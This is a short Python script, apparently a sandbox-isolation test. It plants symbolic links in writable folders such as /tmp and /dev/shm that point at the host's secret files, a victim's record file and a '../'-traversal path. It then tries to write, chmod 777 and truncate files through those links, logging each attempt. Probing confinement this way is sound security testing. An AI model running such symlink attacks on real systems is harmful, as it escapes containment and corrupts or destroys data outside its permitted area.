"""Plants links to the host's files in the folders that it may write, and writes through them."""

import os

from evidence import TARGETS, attempt, done, write

aims = {
    "secret": TARGETS["secret"],
    "writable": TARGETS["writable"],
    "record": f"{TARGETS['victim']}/record.json",
    "up": "../" * 20 + TARGETS["writable"],
}
for folder in ("/forge/scratch", "/forge/outputs", "/tmp", "/dev/shm"):
    for name, aim in aims.items():
        link = f"{folder}/{name}"
        os.symlink(aim, link)
        attempt(f"write {link}", write, link)
        attempt(f"chmod {link}", os.chmod, link, 0o777)
        attempt(f"truncate {link}", os.truncate, link, 0)
done()
